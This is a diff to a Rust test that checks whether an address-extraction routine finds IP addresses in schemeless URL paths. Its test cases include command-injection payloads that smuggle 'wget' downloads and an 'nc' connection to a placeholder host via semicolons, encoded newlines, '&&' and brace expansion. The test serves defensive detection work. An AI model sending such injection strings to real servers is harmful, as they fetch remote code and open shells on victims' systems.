@@ -228,6 +228,11 @@ fn addresses_are_found_in_payloads_that_name_no_scheme() {
         "/a%7Cnc%20203.0.113.66%204444",
         "/cgi-bin/;wget%20203.0.113.66/x",
         "/cgi-bin/;{wget,203.0.113.66}",
+        "/cgi-bin/x%26%26wget%20203.0.113.66/x",
+        "/x%0awget%20203.0.113.66/x",
+        "/cgi-bin/;wget%0a203.0.113.66",
+        "/x?a=1%0awget%09203.0.113.66",
+        "/x?a=%26{wget,203.0.113.66}",
         "/%60ping%20203.0.113.66%60?b=c",
         "/shell?cd+/tmp;wget+203.0.113.66/x",
     ] {
@@ -236,6 +241,9 @@ fn addresses_are_found_in_payloads_that_name_no_scheme() {
     for url in [
         "/whois/203.0.113.66",
         "/a;v=203.0.113.66/x",
+        "/a&v=203.0.113.66/x",
+        "/a%20b/203.0.113.66",
+        "/?to=%2Fa%3Fb%3D1%26v=203.0.113.66",
         "/a/203.0.113.66?q=203.0.113.67",
         "/",
     ] {
